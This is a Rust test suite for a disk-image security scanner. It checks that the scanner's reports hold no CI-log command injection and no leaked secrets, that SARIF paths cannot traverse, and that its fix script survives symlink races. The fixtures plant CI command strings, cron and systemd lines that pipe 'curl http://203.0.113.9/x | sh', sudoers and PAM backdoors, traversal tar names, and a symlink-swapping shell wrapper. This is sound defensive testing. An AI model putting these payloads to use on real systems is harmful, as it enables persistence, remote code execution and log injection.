//! Text of the image in reports, logs and scripts.

#![expect(clippy::indexing_slicing, clippy::string_slice, reason = "a panic here is a failed test")]

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

use crate::lab::{KEY, Lab};

const FORMATS: [&str; 9] =
    ["terminal", "json", "ndjson", "sarif", "junit", "markdown", "csv", "html", "evidence"];

/// Commands of CI servers, and what else steers who reads a log.
const LIVE: [&str; 14] = [
    "##vso[task.prependpath]evil",
    "##[add-mask]a",
    "##teamcity[buildStop comment='x']",
    "a ##[error]b",
    "::add-mask::a",
    "  ::set-output name=ok::true",
    "nl\n::error file=a::x",
    "cr\r::error::x",
    "\u{2003}::notice::x",
    "--- group",
    "+++ open",
    "section_start:1560896352:x\r\u{1b}[0K",
    "travis_fold:start:x",
    "#\u{fe0f}#vso[task.complete]",
];

/// Runs the program as a job of a CI server does.
fn run<I: AsRef<OsStr>>(args: &[I]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_assay"))
        .args(args)
        .env("GITHUB_ACTIONS", "true")
        .env("TF_BUILD", "True")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// Without colours of the program's own.
fn plain(line: &str) -> String {
    let mut plain = String::new();
    let mut rest = line;
    while let Some((before, after)) = rest.split_once("\u{1b}[") {
        plain.push_str(before);
        let parameters = after.trim_start_matches(|c: char| c.is_ascii_digit() || c == ';');
        rest = match parameters.strip_prefix('m') {
            Some(next) => next,
            None => {
                plain.push_str("\u{1b}[");
                after
            }
        };
    }
    plain + rest
}

/// What a CI server takes out of `line`, by the rules of each of them.
fn command(line: &str) -> Option<&'static str> {
    let text = plain(line);
    // .NET compares by language: what is not counted may stand anywhere.
    let counted: String = text.chars().filter(|c| !('\u{fe00}'..='\u{fe0f}').contains(c)).collect();
    let lower = counted.to_ascii_lowercase();
    let first = counted.trim_start();
    let has = |mark: &str| lower.contains(mark);
    let digit_after = |mark: &str| {
        lower
            .match_indices(mark)
            .any(|(at, _)| lower[at + mark.len()..].starts_with(|c: char| c.is_ascii_digit()))
    };
    if first.starts_with("::") {
        return Some("GitHub");
    }
    if has("##[") || has("##vso[") || has("##teamcity[") {
        return Some("GitHub, Azure, TeamCity");
    }
    if digit_after("section_start:") || digit_after("section_end:") || has("travis_fold:start") {
        return Some("GitLab, Travis");
    }
    let groups = ["--- ", "+++ ", "~~~ ", "^^^ +++"];
    if groups.iter().any(|mark| first.starts_with(mark)) {
        return Some("Buildkite");
    }
    text.chars().any(|c| c.is_control() && c != '\t').then_some("a terminal")
}

/// Holds that no line of `text` is a command.
fn holds(what: &str, text: &[u8]) {
    let text = String::from_utf8(text.to_vec()).unwrap_or_else(|_| format!("{what} is no text\u{7}"));
    for line in text.split('\n').flat_map(|line| line.strip_suffix('\r').unwrap_or(line).split('\r')) {
        let start: String = line.chars().take(300).collect();
        assert!(command(line).is_none(), "{what}: {:?} in {start:?}", command(line));
    }
}

/// A system in which every text tries to be a command, as an image; and the name of the image does, too.
fn steering(lab: &Lab) -> PathBuf {
    for (number, text) in LIVE.iter().enumerate() {
        let name = text.replace('/', "");
        lab.file(&format!("srv/{number}/{name}/.aws/credentials"), KEY.replace("V\n", "V\n#"));
        lab.file(&format!("home/u/{name}/.env"), format!("DB_PASSWORD=Xk29fjq8Zmw{number}w21\n"));
        lab.file(&format!("etc/cron.d/{number}"), format!("* * * * * root /tmp/.x {name}\n{name}\n"));
    }
    let words = ["::add-mask::a"; 60].join(" ");
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcH";
    let keys: String = LIVE
        .iter()
        .map(|text| text.replace('\n', " "))
        .chain([words.clone()])
        .collect::<Vec<_>>()
        .join(&format!("\n{key} "));
    lab.file("root/.ssh/authorized_keys", format!("{key} {keys}\n"));
    let evil = "##vso[task.x]y ::z:: ##[group]";
    lab.file("etc/os-release", format!("ID=debian\nVERSION_ID=12\nPRETTY_NAME=\"{evil}\"\n"));
    lab.file("etc/hostname", "##vso[task.x]y\n");
    lab.file("etc/cron.d/long", format!("* * * * * root curl http://203.0.113.9/x | sh # {words}\n"));
    lab.file("etc/sudoers", format!("{evil} ALL=(ALL) NOPASSWD: ALL # {words}\n"));
    lab.file("etc/ssh/sshd_config", format!("PermitRootLogin yes\nForceCommand {evil}\nBanner ::x::\n"));
    lab.file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n##vso[x]::0:0::/root:/bin/bash\n");
    lab.file("var/lib/dpkg/status", format!("Package: ##vso[x]y\nStatus: install ok installed\nArchitecture: all\nVersion: {evil}\nDescription: x\n\n"));
    lab.file(
        "etc/systemd/system/##vso[x].service",
        format!("[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.9/{evil} | sh'\n"),
    );
    // A gap that is told with its name.
    lab.file("srv/##vso[task.x]y.zip", [b"PK\x03\x04".as_slice(), &[9; 300]].concat());
    let image = lab.beside("::add-mask::x\n##vso[task.x]y --- z.img");
    fs::rename(lab.ext4("16M"), &image).unwrap();
    image
}

#[test]
fn no_text_of_the_image_is_a_command_in_the_log_of_a_ci_server() {
    let lab = Lab::new();
    let clean = lab.beside("clean.img");
    fs::rename(lab.ext4("16M"), &clean).unwrap();
    fs::remove_file(lab.tree().join("etc/os-release")).unwrap();
    let image = steering(&lab);
    let (image, clean) = (image.as_os_str(), clean.as_os_str());
    let word = OsStr::new;
    let saved = lab.beside("saved.json");
    let output = run(&[word("scan"), image, word("--format=json"), word("-o"), saved.as_os_str()]);
    holds("scan -o", &[output.stdout, output.stderr].concat());
    let evil = "/##vso[task.x]y\n::x::";
    let commands: [&[&OsStr]; 19] = [
        &[word("scan"), image],
        &[word("scan"), word("-v"), image],
        &[word("scan"), word("-q"), image],
        &[word("scan"), word("--show-secrets"), image],
        &[word("--color=always"), word("scan"), image],
        &[word("scan"), word("--profile=public-ami"), word("--benchmark=auto"), word("-v"), image],
        &[word("diff"), clean, image, word("-v")],
        &[word("diff"), image, clean],
        &[word("diff"), clean, image, word("--format=json")],
        &[word("diff"), clean, image, word("--format=markdown")],
        &[word("diff"), clean, saved.as_os_str()],
        &[word("fix"), image],
        &[word("fix"), saved.as_os_str()],
        &[word("layout"), image],
        &[word("manifest"), image],
        &[word("cat"), image, word(evil)],
        &[word("cat"), image, word("/srv/##vso[task.x]y.zip/x")],
        &[word("scan"), word(evil)],
        &[word("rules"), word("show"), word(evil)],
    ];
    for args in commands {
        let output = run(args);
        holds(&format!("{args:?}"), &output.stdout);
        holds(&format!("{args:?} on standard error"), &output.stderr);
    }
    for directory in ["/srv/4", "/etc/systemd/system", "/home/u"] {
        holds(directory, &run(&[word("ls"), image, word(directory)]).stdout);
    }
    let files: Vec<_> = FORMATS.iter().map(|format| (*format, lab.beside(format))).collect();
    let mut all = vec!["scan".into(), image.to_owned()];
    all.extend(files.iter().map(|(format, file)| format!("--format={format}={}", file.display()).into()));
    holds("scan to files", &run(&all).stderr);
    for (format, file) in &files {
        let printed = run(&[word("scan"), image, word(&format!("--format={format}"))]).stdout;
        holds(format, &printed);
        let written = fs::read(file).unwrap();
        holds(&format!("{format} in a file"), &written);
        assert!(*format == "evidence" || printed == written, "{format} is the same in a file");
    }
    let baseline = lab.beside("baseline.toml");
    let output = run(&[word("baseline"), image, word("-o"), baseline.as_os_str()]);
    holds("baseline", &[output.stdout, output.stderr, fs::read(&baseline).unwrap()].concat());
    let output = run(&[word("scan"), clean, word("--baseline"), baseline.as_os_str(), word("-v")]);
    holds("scan with a baseline", &output.stdout);
}

#[test]
fn cat_stops_before_a_line_that_would_be_a_command_and_a_file_gets_every_byte() {
    let lab = Lab::new();
    lab.file("srv/a", "one\n  ::add-mask::x\n").file("srv/b", "one\n# two :: three\n");
    let image = lab.ext4("16M");
    let cat = |path: &str| run(&["cat".as_ref(), image.as_os_str(), OsStr::new(path)]);
    let stopped = cat("/srv/a");
    assert_eq!((stopped.status.code(), stopped.stdout.as_slice()), (Some(2), b"one\n".as_slice()));
    holds("standard error", &stopped.stderr);
    assert_eq!(cat("/srv/b").stdout, b"one\n# two :: three\n");
    let file = lab.beside("file");
    let to_file = Command::new(env!("CARGO_BIN_EXE_assay"))
        .args(["cat".as_ref(), image.as_os_str(), OsStr::new("/srv/a")])
        .env("CI", "true")
        .stdout(fs::File::create(&file).unwrap())
        .status()
        .unwrap();
    assert!(to_file.success());
    assert_eq!(fs::read(&file).unwrap(), b"one\n  ::add-mask::x\n");
}

/// A tar of `names`, each with a key in it.
fn tar(names: &[&str]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (number, name) in names.iter().enumerate() {
        let content =
            KEY.replace("PLQV", &format!("PL{}V", char::from(b'A' + u8::try_from(number).unwrap())));
        let mut header = tar::Header::new_ustar();
        header.as_mut_bytes()[..name.len()].copy_from_slice(name.as_bytes());
        header.set_size(content.len() as u64);
        header.set_mode(0o600);
        header.set_entry_type(tar::EntryType::Regular);
        header.set_cksum();
        bytes.extend_from_slice(header.as_bytes());
        bytes.extend_from_slice(content.as_bytes());
        bytes.resize(bytes.len().next_multiple_of(512), 0);
    }
    bytes.resize(bytes.len() + 1024, 0);
    bytes
}

#[test]
fn a_place_in_sarif_leads_nowhere_else() {
    let lab = Lab::new();
    let names = [
        "../../../etc/passwd",
        "/abs/x",
        "a//b/./c",
        "C:\\Windows\\..\\..\\x",
        "..\\..\\y",
        "d/..",
        "javascript:x",
    ];
    lab.file("srv/names.tar", tar(&names));
    let tree = lab.tree();
    let output = run(&["scan".as_ref(), "--rootfs".as_ref(), tree.as_os_str(), "--format=sarif".as_ref()]);
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    let mut uris = Vec::new();
    let results = report.pointer("/runs/0/results").unwrap().as_array().unwrap();
    for result in results {
        let more = result["relatedLocations"].as_array().into_iter().flatten();
        for location in result["locations"].as_array().unwrap().iter().chain(more) {
            uris.push(
                location
                    .pointer("/physicalLocation/artifactLocation/uri")
                    .unwrap()
                    .as_str()
                    .unwrap()
                    .to_owned(),
            );
        }
    }
    assert!(uris.iter().filter(|uri| uri.contains("names.tar!")).count() >= names.len() - 1, "{uris:?}");
    for uri in &uris {
        let is_plain = |c: char| c.is_ascii_alphanumeric() || "-._~!$&'()*+,;=@%/".contains(c);
        assert!(uri.chars().all(is_plain), "{uri}");
        let parts = uri.replace("%5C", "/").replace("%2E", ".");
        assert!(parts.split('/').all(|part| !["", ".", ".."].contains(&part)), "{uri}");
    }
}

/// Values that look random, from a fixed seed, so that none is in this file.
struct Maker(u64);

impl Maker {
    fn word(&mut self, len: usize, letters: &[u8]) -> String {
        let mut next = || {
            self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            usize::try_from(self.0 >> 33).unwrap()
        };
        (0..len).map(|_| char::from(letters[next() % letters.len()])).collect()
    }

    /// A password, which has no form of its own.
    fn password(&mut self) -> String {
        let word = self.word(15, b"abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789");
        format!("q7{word}X4k")
    }

    /// A token that a rule knows wherever it stands.
    fn token(&mut self) -> String {
        format!("AKIA{}{}", "Q3EGRT7X", self.word(8, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"))
    }
}

/// A system that has a secret in everything that reports quote; and those secrets, by where they are.
fn telling(lab: &Lab) -> Vec<(&'static str, String)> {
    let mut make = Maker(20_261_129);
    let mut planted = Vec::new();
    let mut plant = |place: &'static str, secret: String| {
        planted.push((place, secret.clone()));
        secret
    };
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcH";
    let option = plant("authorized_keys command", make.password());
    let environment = plant("authorized_keys environment", make.password());
    let comment = plant("key comment", make.password());
    lab.file(
        "root/.ssh/authorized_keys",
        format!("command=\"/tmp/.x --password {option}\",environment=\"DB_PASSWORD={environment}\" {key} pw:{comment}\n"),
    );
    let (force, keys) =
        (plant("ForceCommand", make.password()), plant("AuthorizedKeysCommand", make.password()));
    lab.file(
        "etc/ssh/sshd_config",
        format!("PermitRootLogin yes\nForceCommand /tmp/.x --password={force}\nAuthorizedKeysCommand /usr/bin/curl -u x:{keys} http://x/%u\nAuthorizedKeysCommandUser root\n"),
    );
    let pam = plant("pam_exec", make.password());
    lab.file(
        "etc/pam.d/sshd",
        format!("auth optional pam_exec.so /tmp/.x --secret {pam}\nauth sufficient pam_permit.so\n"),
    );
    let sudoers = plant("comment of sudoers", make.password());
    lab.file("etc/sudoers", format!("bob ALL=(ALL) NOPASSWD: ALL # {sudoers}\n"));
    lab.file("etc/ld.so.preload", format!("/tmp/.{}.so\n", plant("ld.so.preload", make.password())));
    let cmdline = plant("kernel command line", make.password());
    lab.file("etc/kernel/cmdline", format!("root=/dev/sda1 token={cmdline}\n"));
    let unit = plant("unit", make.password());
    lab.file(
        "etc/systemd/system/a.service",
        format!("[Service]\nExecStart=/tmp/.x --api-key {unit}\n[Install]\nWantedBy=multi-user.target\n"),
    );
    let cron = plant("cron", make.password());
    lab.file(
        "etc/cron.d/x",
        format!("* * * * * root PGPASSWORD={cron} /tmp/.x; curl http://203.0.113.9/x | sh\n"),
    );
    // Tokens as names: of a directory with a finding about itself, about something else, of a unit, a host, a package.
    let own = plant("directory of the token", make.token());
    lab.file(
        &format!("srv/{own}/.env"),
        format!("AWS_ACCESS_KEY_ID={own}\nDB_PASSWORD={}\n", plant("beside it", make.password())),
    );
    let only = plant("token only in a path", make.token());
    lab.file(
        &format!("srv/{only}/.env"),
        format!("DB_PASSWORD={}\n", plant("in that path", make.password())),
    );
    let archive = plant("token as name of a member", make.token());
    lab.file("srv/m.tar", tar(&[&format!("{archive}/credentials")]));
    lab.file("etc/hostname", format!("{}\n", plant("host name", make.token())));
    let release = plant("os-release", make.token());
    lab.file("etc/os-release", format!("ID=debian\nVERSION_ID=12\nPRETTY_NAME=\"Debian {release}\"\n"));
    let package = plant("package", make.token()).to_ascii_uppercase();
    lab.file("var/lib/dpkg/status", format!("Package: {package}\nStatus: install ok installed\nArchitecture: all\nVersion: 1\nDescription: x\n\n"));
    let (account, group) = (plant("account", make.token()), plant("group", make.token()));
    lab.file("etc/passwd", format!("root:x:0:0:root:/root:/bin/bash\n{account}::0:0:pw x:/root:/bin/bash\n"));
    lab.file("etc/group", format!("root:x:0:\n{group}:x:7:{account}\n"));
    let name = plant("name of a unit", make.token());
    lab.file(&format!("etc/systemd/system/{name}.service"), "[Service]\nExecStart=/tmp/.x\n");
    let gap = plant("name of what is not read", make.token());
    lab.file(&format!("srv/{gap}.zip"), [b"PK\x03\x04".as_slice(), &[9; 300]].concat());
    let link = plant("link target", make.token());
    symlink(format!("https://x:{link}@example.org"), lab.tree().join("etc/localtime")).unwrap();
    let program = plant("setuid program", make.token());
    lab.file(&format!("opt/{program}"), "#!/bin/sh\n");
    fs::set_permissions(lab.tree().join(format!("opt/{program}")), fs::Permissions::from_mode(0o4755))
        .unwrap();
    // What one finding knows, another one quotes.
    let known = plant("known elsewhere", make.word(24, b"abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ"));
    lab.file("srv/k/.env", format!("DB_PASSWORD={known}\n"));
    lab.file("etc/cron.d/y", format!("@reboot root /tmp/.y {known} {known}\n"));
    planted
}

#[test]
fn what_a_report_quotes_holds_no_secret() {
    let lab = Lab::new();
    let clean = lab.beside("clean.img");
    fs::rename(lab.ext4("16M"), &clean).unwrap();
    let planted = telling(&lab);
    let image = lab.ext4("16M");
    let (image, clean) = (image.as_os_str(), clean.as_os_str());
    let word = OsStr::new;
    let mut texts: Vec<(String, Vec<u8>)> = Vec::new();
    let files: Vec<_> = FORMATS.iter().map(|format| (*format, lab.beside(format))).collect();
    let mut all = vec!["scan".into(), image.to_owned(), "-v".into(), "--benchmark=cis-debian12".into()];
    all.extend(files.iter().map(|(format, file)| format!("--format={format}={}", file.display()).into()));
    let done = run(&all);
    texts.push(("scan".to_owned(), [done.stdout, done.stderr].concat()));
    files.iter().for_each(|(format, file)| texts.push(((*format).to_owned(), fs::read(file).unwrap())));
    let mut keep =
        |what: &str, output: Output| texts.push((what.to_owned(), [output.stdout, output.stderr].concat()));
    let (saved, baseline) = (lab.beside("saved.json"), lab.beside("baseline.toml"));
    run(&[word("scan"), image, word("--format=json"), word("-o"), saved.as_os_str()]);
    for format in ["terminal", "json", "markdown"] {
        let flag = format!("--format={format}");
        keep("diff", run(&[word("diff"), clean, image, word(&flag), word("-v")]));
        keep("diff the other way", run(&[word("diff"), image, clean, word(&flag), word("-v")]));
        keep("diff with a report", run(&[word("diff"), clean, saved.as_os_str(), word(&flag), word("-v")]));
    }
    keep("fix", run(&[word("fix"), image]));
    keep("fix from a report", run(&[word("fix"), saved.as_os_str()]));
    keep("baseline", run(&[word("baseline"), image, word("-o"), baseline.as_os_str()]));
    let cache = lab.beside("cache");
    keep(
        "cache",
        run(&[
            word("scan"),
            image,
            word("--profile=forensic"),
            word("-v"),
            word("--cache"),
            cache.as_os_str(),
        ]),
    );
    texts.push(("baseline".to_owned(), fs::read(&baseline).unwrap()));
    texts.push(("cache".to_owned(), fs::read(&cache).unwrap()));
    let mut leaks = Vec::new();
    for (place, secret) in &planted {
        let half = &secret.as_bytes()[secret.len() / 2..];
        for (what, text) in &texts {
            let joined: Vec<u8> = text.iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
            for looked_for in [secret.as_bytes(), half] {
                if memchr::memmem::find(&joined, looked_for).is_some() {
                    leaks.push(format!("{place} in {what}"));
                }
            }
        }
    }
    leaks.sort();
    leaks.dedup();
    assert!(leaks.is_empty(), "{leaks:#?}");
    // And the texts are there at all.
    let json: Value = serde_json::from_slice(&fs::read(&saved).unwrap()).unwrap();
    let paths: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|finding| finding.pointer("/location/path")?.as_str())
        .collect();
    assert!(paths.contains(&"/srv/AK… (20 bytes)/.env") && paths.contains(&"/etc/cron.d/x"), "{paths:?}");
}

/// The script for a user's files in a directory where others may write.
struct Raced {
    lab: Lab,
    script: PathBuf,
    victim: PathBuf,
}

const VICTIM: &str = "root:$6$x:1:0:99999:7:::\n";

impl Raced {
    fn new() -> Self {
        let lab = Lab::new();
        let (script, victim) = (lab.beside("clean.sh"), lab.beside("victim"));
        let raced = Self { lab, script, victim };
        raced.again();
        let (tree, script) = (raced.lab.tree(), raced.script.as_os_str());
        let made = run(&["fix".as_ref(), "--rootfs".as_ref(), tree.as_os_str(), "-o".as_ref(), script]);
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        raced
    }

    /// Lays the files as they were.
    fn again(&self) {
        let lab = &self.lab;
        let _ = fs::remove_dir_all(lab.tree().join("home"));
        let _ = fs::remove_dir_all(lab.beside("own"));
        lab.file("home/u/.bash_history", "mysql -psecretsecret12\nls\n");
        lab.file("home/u/app/.env", "DB_PASSWORD=Xk29fjq8Zmw77w21\n");
        lab.file("home/u/.netrc", "machine a login b password Xk29fjq8Zmw78w22\n");
        for path in ["home/u", "home/u/app"] {
            fs::set_permissions(lab.tree().join(path), fs::Permissions::from_mode(0o777)).unwrap();
        }
        fs::write(&self.victim, VICTIM).unwrap();
    }

    /// Runs the script; before the `nth` call of `tool` all files of the user become links to the victim.
    fn run(&self, shell: &str, tool: &str, nth: usize) -> String {
        let bin = self.lab.beside("bin");
        fs::create_dir_all(&bin).unwrap();
        let (counter, home, beside) =
            (self.lab.beside("counter"), self.lab.tree().join("home/u"), self.lab.beside("own"));
        let _ = fs::remove_file(&counter);
        let real = which(tool);
        let wrapper = format!(
            "#!/bin/sh\necho >> '{counter}'\nn=$(/usr/bin/wc -l < '{counter}')\n[ \"$n\" = {nth} ] || exec '{real}' \"$@\"\n\
             /bin/mkdir -p '{beside}'\nfor f in .bash_history app/.env .netrc; do\n\
             [ -e '{home}'/$f ] && [ ! -L '{home}'/$f ] && /bin/mv '{home}'/$f '{beside}'/ && /bin/ln -s '{victim}' '{home}'/$f\ndone\n\
             exec '{real}' \"$@\"\n",
            counter = counter.display(),
            home = home.display(),
            beside = beside.display(),
            victim = self.victim.display(),
        );
        let file = bin.join(tool);
        fs::write(&file, wrapper).unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
        let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
        let done = Command::new(shell)
            .arg(&self.script)
            .env("ROOT", self.lab.tree())
            .env("PATH", path)
            .output()
            .unwrap();
        String::from_utf8_lossy(&done.stdout).into_owned() + &String::from_utf8_lossy(&done.stderr)
    }
}

fn which(tool: &str) -> String {
    let found = ["/usr/bin", "/bin", "/usr/sbin"]
        .iter()
        .map(|dir| Path::new(dir).join(tool))
        .find(|path| path.exists());
    found.unwrap().display().to_string()
}

#[test]
fn a_link_put_in_the_way_of_the_fix_script_leads_it_nowhere() {
    let shells: Vec<&str> =
        ["dash", "bash"].into_iter().filter(|shell| Path::new("/bin").join(shell).exists()).collect();
    assert!(!shells.is_empty());
    let raced = Raced::new();
    // Each tool that the script calls is a moment at which others may act.
    for (turn, tool) in ["dd", "rm", "ls", "ln", "find", "tail", "stat", "mkdir"].into_iter().enumerate() {
        for nth in [1, 2, 4] {
            raced.again();
            let told = raced.run(shells[turn % shells.len()], tool, nth);
            assert_eq!(fs::read_to_string(&raced.victim).unwrap(), VICTIM, "{tool}, call {nth}: {told}");
            let left: Vec<_> = fs::read_dir(raced.lab.tree().join("home")).unwrap().collect();
            assert_eq!(left.len(), 1, "nothing is left behind: {told}");
        }
    }
}

#[test]
fn the_fix_script_cleans_where_others_may_write() {
    let raced = Raced::new();
    let done = Command::new("sh").arg(&raced.script).env("ROOT", raced.lab.tree()).output().unwrap();
    let told = String::from_utf8_lossy(&done.stdout).into_owned() + &String::from_utf8_lossy(&done.stderr);
    assert!(done.status.success(), "{told}");
    assert!(!raced.lab.tree().join("home/u/.bash_history").exists(), "{told}");
    let env = fs::read_to_string(raced.lab.tree().join("home/u/app/.env")).unwrap();
    assert!(!env.contains("Xk29fjq8Zmw77w21"), "{told}");
    // A directory of links that others make is emptied, and nothing behind them.
    let lab = Lab::new();
    lab.file("var/lib/cloud/instances/i-1/user-data.txt", "#!/bin/sh\n").file("keep/me", "x");
    symlink(lab.tree().join("keep"), lab.tree().join("var/lib/cloud/instances/link")).unwrap();
    let name = OsStr::from_bytes(b"-rf \xff\n");
    fs::create_dir(lab.tree().join("var/lib/cloud/instances").join(name)).unwrap();
    let script = lab.beside("sweep.sh");
    fs::write(
        &script,
        format!(
            "#!/bin/sh\n{}\nsweep /var/lib/cloud/instances\nfinish\n",
            include_str!("../../src/fix/functions.sh")
        ),
    )
    .unwrap();
    let done = Command::new("sh").arg(&script).env("ROOT", lab.tree()).output().unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    assert_eq!(fs::read_dir(lab.tree().join("var/lib/cloud/instances")).unwrap().count(), 0);
    assert!(lab.tree().join("keep/me").exists());
}
